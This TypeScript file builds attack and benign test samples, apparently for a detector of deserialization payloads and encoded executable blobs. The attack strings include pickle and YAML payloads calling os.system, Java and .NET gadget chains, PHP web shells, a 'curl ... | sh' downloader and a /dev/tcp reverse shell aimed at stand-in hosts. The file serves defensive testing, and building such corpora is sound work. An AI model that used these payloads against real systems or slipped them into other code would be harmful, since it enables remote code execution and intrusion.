import type { CategoryCorpus } from './corpus.ts'
import { carried, cross, dev, held, some } from './corpus.ts'

const base64 = (bytes: string): string => Buffer.from(bytes, 'latin1').toString('base64')
const hex = (bytes: string): string => Buffer.from(bytes, 'latin1').toString('hex')
const fill = (length: number): string =>
  Array.from({ length }, (_none, i) => String.fromCharCode((i * 37 + 11) % 256)).join('')

const mz = `MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8${'\0'.repeat(7)}@${'\0'.repeat(35)}\x80\0\0\0${fill(64)}`
const elf = `\x7fELF\x02\x01\x01${'\0'.repeat(9)}\x03\0>\0\x01\0\0\0${fill(64)}`
const java = `\xac\xed\0\x05sr\0\x11java.util.HashMap\x05\x07\xda${fill(40)}`
const pickle = (module: string, name: string): string =>
  `\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c${String.fromCharCode(module.length)}${module}\x94\x8c${String.fromCharCode(name.length)}${name}\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.`

export const deserializationCorpus: CategoryCorpus = {
  category: 'deserialization',
  attacks: [
    dev(
      'java',
      carried([
        base64(java),
        hex(java),
        `session=${base64(java)}`,
        base64(`\xac\xed\0\x05ur\0\x13[Ljava.lang.Object;${fill(30)}`),
        '\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap',
      ]),
    ),
    dev(
      'php objects',
      carried(
        some(
          16,
          cross(
            ['', 'data=', 'cookie: '],
            ['O:4:"User":1:', 'O:8:"stdClass":2:', 'O:6:"Logger":1:', 'O:11:"PharArchive":1:'],
            ['{s:4:"file";s:9:"shell.php";}', '{s:5:"admin";b:1;}'],
          ),
        ),
      ),
    ),
    dev('pickle', [
      ...[
        ['posix', 'system'],
        ['os', 'system'],
        ['builtins', 'eval'],
        ['subprocess', 'check_output'],
      ].map(([module, name]) => base64(pickle(module!, name!))),
      "cos\nsystem\n(S'id'\ntR.",
      "cposix\nsystem\n(S'ls'\ntR.",
      "c__builtin__\neval\n(S'1'\ntR.",
    ]),
    dev('tags and functions', [
      "!!python/object/apply:os.system ['id']",
      '!!python/object/new:subprocess.Popen [["id"]]',
      '{"rce":"_$$ND_FUNC$$_function(){require(\'x\')}()"}',
      '!ruby/object:Gem::Installer\ni: x',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]',
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}',
      '!!js/function "function(){}"',
    ]),
    held('dotnet and marshal', [
      base64(`\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c\x02\0\0\0ISystem, Version=4.0.0.0`),
      `state=${base64('\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x04\x01\0\0\0')}AAAA`,
      base64('\x04\x08o:\x15Gem::Requirement\x06:\x0a@listo:\x10Gem::X'),
      '\\x04\\bo:\\x15Gem::Requirement',
      '<ObjectDataProvider MethodName="Start" x:Key="p">',
      '{"__type":"System.Diagnostics.Process, System"}',
      '{"$type": "System.Diagnostics.Process, System", "StartInfo": {}}',
    ]),
    held('java gadgets', [
      '<java><object class="java.lang.ProcessBuilder"><array/></object></java>',
      '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>',
      '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://h.example/a"}]',
      '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"rmi://h/a"}',
      '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://h/a"}',
      '$$BCEL$$$l$8b$I$A$A$A',
      '<java.lang.ProcessBuilder><command/></java.lang.ProcessBuilder>',
      '{"@class":"java.lang.Runtime","x":1}',
    ]),
    held('php and python variants', [
      'O:+4:"User":1:{s:1:"a";i:1;}',
      'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
      'O%3A4%3A%22User%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D',
      'a:1:{i:0;O:4:"User":0:{}}',
      '!!python/name:os.system',
      '!!python/module:os',
      "(cos\nsystem\nS'id'\no.",
      `token=${base64(pickle('nt', 'system'))}`,
      base64(pickle('importlib', 'import_module')),
      'O:21:"App\\Models\\FileLogger":1:{s:4:"path";s:5:"a.php";}',
    ]),
  ],
  benign: [
    dev(
      'php arrays and JSON',
      some(
        20,
        cross(
          ['a:2:{i:0;s:1:"a";i:1;s:1:"', '{"type": "', '{"@type": "'],
          ['b', 'Person', 'Order'],
          ['";}', '", "name": "Ann"}', '"}'],
        ),
      ),
    ),
    dev('code', [
      'pickle.loads(data)',
      'yaml.safe_load(f)',
      'new ObjectInputStream(in).readObject()',
      'unserialize($row["meta"], ["allowed_classes" => false])',
      'Marshal.dump(obj)',
      'JSON.parse(text)',
      'import pickle',
      'BinaryFormatter is obsolete',
      '!!str 12',
      '!Ref Bucket',
      '!!binary aGVsbG8=',
      '"$type": "MyApp.Order, MyApp"',
      '{"$schema": "https://h.example"}',
      'class User implements Serializable',
      'private static final long serialVersionUID = 1L;',
    ]),
    dev('tokens and hashes', [
      ...Array.from({ length: 20 }, (_none, i) => base64(fill(40 + i)).slice(i % 5)),
      ...Array.from({ length: 10 }, (_none, i) => hex(fill(16 + i))),
    ]),
    held('texts', [
      'O: 3 apples, 4 pears',
      'C:\\Users\\ann',
      'O:-)',
      'o:p tags in Word HTML',
      'the rO0 level',
      'aced the exam 0005 times',
      'cos x, sin y',
      'system\n(S)',
      'PHP: O:n is the object mark',
      'gasV: gas volume',
    ]),
    held(
      'documents',
      some(
        20,
        cross(
          ['{"id": ', 'key: ', 'session='],
          [
            '"eyJhbGciOiJIUzI1NiJ9.e30.abc"',
            'AAAAB3NzaC1yc2EAAAADAQABAAABgQ',
            'MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A',
            'iVBORw0KGgoAAAANSUhEUgAAAAEA',
            'R0lGODlhAQABAIAAAAAAAP',
          ],
          ['}', ''],
        ),
      ),
    ),
    held('questions', [
      'Why is pickle unsafe?',
      'How do I serialize a class in PHP?',
      'What replaces BinaryFormatter in .NET 8?',
      'Explain Java serialization and its alternatives.',
      'How do custom YAML tags work?',
      'Does Ruby Marshal keep singleton methods?',
      'Convert this PHP array to JSON: a:1:{s:1:"k";s:1:"v";}',
      'What is ViewState in ASP.NET?',
      'Should I use protobuf or JSON?',
      'How does node-serialize differ from JSON?',
    ]),
  ],
}

export const blobCorpus: CategoryCorpus = {
  category: 'encoded_blob',
  attacks: [
    dev(
      'programs',
      carried([
        base64(mz),
        base64(elf),
        `data: ${base64(mz)}`,
        `file="${base64(elf)}"`,
        hex(mz),
        hex(elf),
        `echo ${base64(elf)} | base64 -d > a`,
        base64(`\xcf\xfa\xed\xfe\x07\0\0\x01\x03${fill(50)}`),
      ]),
    ),
    dev(
      'scripts',
      carried(
        [
          '#!/bin/sh\ncurl http://h.example/x | sh',
          '#!/usr/bin/env python3\nimport os; os.system("id")',
          '<?php system($_GET["c"]); ?>',
          '<script>alert(document.cookie)</script>',
          '<?php eval(base64_decode($_POST["x"]));',
          '#!/bin/bash -i\nbash -i >& /dev/tcp/h/1',
        ].map(base64),
      ),
    ),
    dev(
      'archives',
      [
        `PK\x03\x04\x14\0\0\0\x08\0${fill(60)}`,
        `\x1f\x8b\x08\0\0\0\0\0\0\x03${fill(60)}`,
        `7z\xbc\xaf\x27\x1c\0\x04${fill(60)}`,
        `Rar!\x1a\x07\x01\0${fill(60)}`,
        `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(16)}${fill(60)}`,
      ].map(base64),
    ),
    dev(
      'more scripts and programs',
      some(
        24,
        cross(
          ['payload=', 'attachment: ', 'x '],
          [
            base64(mz.replace('\x90', '\x80')),
            base64(elf.replace('\x03\0>', '\x02\0>')),
            base64('#!/usr/bin/perl\nuse Socket;exec("/bin/sh");'),
            base64('<svg onload=alert(1)></svg><!-- padding -->'),
          ],
          ['', '\nthanks'],
        ),
      ),
    ),
    held('hex and escapes', [
      `0x${hex(mz)}`,
      hex('#!/bin/sh\nrm -rf /tmp/x; curl h | sh\n\n'),
      hex('<?php system($_GET[1]); ?> and more text'),
      '\\x4d\\x5a\\x90\\x00\\x03\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\xff\\xff\\x00\\x00\\xb8\\x00\\x00\\x00',
      '0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x00, 0x3e, 0x00, 0x01',
      '7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00 03 00 3e 00 01 00 00 00 a0 12 00 00',
      hex(`PK\x03\x04\x14\0\0\0\x08\0${fill(40)}`),
      hex(`\xca\xfe\xba\xbe\0\0\0\x34${fill(40)}`),
    ]),
    held('data addresses', [
      'data:application/x-msdownload;base64,TVqQAAMAAAAEAAAA',
      'data:application/x-sh;base64,IyEvYmluL3No',
      'data:text/javascript;base64,YWxlcnQoMSk=',
      'data:application/octet-stream;base64,f0VMRgIBAQAAAAAA',
      'data:application/java-archive;base64,UEsDBBQAAAAI',
      'data:application/hta;base64,PGh0bWw+',
    ]),
    held('others', [
      `wasm ${base64(`\0asm\x01\0\0\0${fill(50)}`)}`,
      base64(`\xca\xfe\xba\xbe\0\0\0\x3d${fill(50)}`),
      base64(`BZh91AY&SY${fill(60)}`),
      base64(`\xfd7zXZ\0\0\x04${fill(60)}`),
      base64(`dex\n035\0${fill(60)}`),
      base64(`MSCF\0\0\0\0${fill(60)}`),
      base64('#!/bin/zsh\necho hi; curl https://h.example/a | zsh'),
      base64('<?= shell_exec($_REQUEST["cmd"]); ?>'),
    ]),
  ],
  benign: [
    dev(
      'random base64',
      Array.from({ length: 40 }, (_none, i) => base64(fill(30 + i * 3)).slice(i % 9)),
    ),
    dev('images and fonts', [
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk',
      '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsL',
      'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
      'd09GMgABAAAAAAXkAA4AAAAADVgAAAWOAAEAAAAAAAAAAAAAAAAAAAAAAAAA',
      'UklGRiQAAABXRUJQVlA4IBgAAAAwAQCdASoBAAEAAwA0JaQAA3AA/vuUAAA=',
      'data:image/png;base64,iVBORw0KGgo=',
      'data:application/json;base64,eyJhIjoxfQ==',
      'data:font/woff2;base64,d09GMg==',
      'data:application/pdf;base64,JVBERi0xLjQK',
    ]),
    dev('keys and hashes', [
      '-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ',
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx ann@h',
      'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=',
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.x',
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      '4d5a9f2b7c1e commit fixes',
      '7f454c46 is the ELF magic number',
      'magic: cafebabe',
      '0xdeadbeef 0xcafebabe',
      'uuid 1f8b0800-aaaa-4bbb-8ccc-ddddeeeeffff',
    ]),
    held(
      'base64 text',
      [
        'Hello, this is an ordinary sentence in base64.',
        '{"user": "ann", "roles": ["reader"], "exp": 1700000000}',
        '# Title\n\nSome Markdown text with a list:\n- a\n- b',
        'name,age\nann,3\nbob,4\ncarl,5\n',
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1"/></svg>',
        '<html><body><p>Hello</p></body></html>',
        'SELECT name FROM items WHERE id = 3',
        'key: value\nlist:\n  - one\n  - two\n',
        '#include <stdio.h>\nint main(void) { return 0; }',
        '#!not a shebang, just a hash mark and text',
      ].map(base64),
    ),
    held('talk', [
      'TVqQ is how MZ looks in base64.',
      'Files that start with UEsDB are zip archives.',
      'The ELF header begins with 7f 45 4c 46.',
      'H4sI is gzip',
      'What does PK\\x03\\x04 mean?',
      'IyEv decodes to #!/',
      'What is the magic number of a Java class?',
      'Decode SGVsbG8gd29ybGQ= for me',
      'Is AGFzbQ the start of a wasm file?',
      '0x4d5a',
    ]),
    held('minified and hex', [
      ...Array.from({ length: 12 }, (_none, i) => hex(fill(32 + i)).slice(i)),
      'a'.repeat(80),
      '0123456789abcdef'.repeat(6),
      'AAAA'.repeat(30),
      'ff'.repeat(40),
    ]),
  ],
}
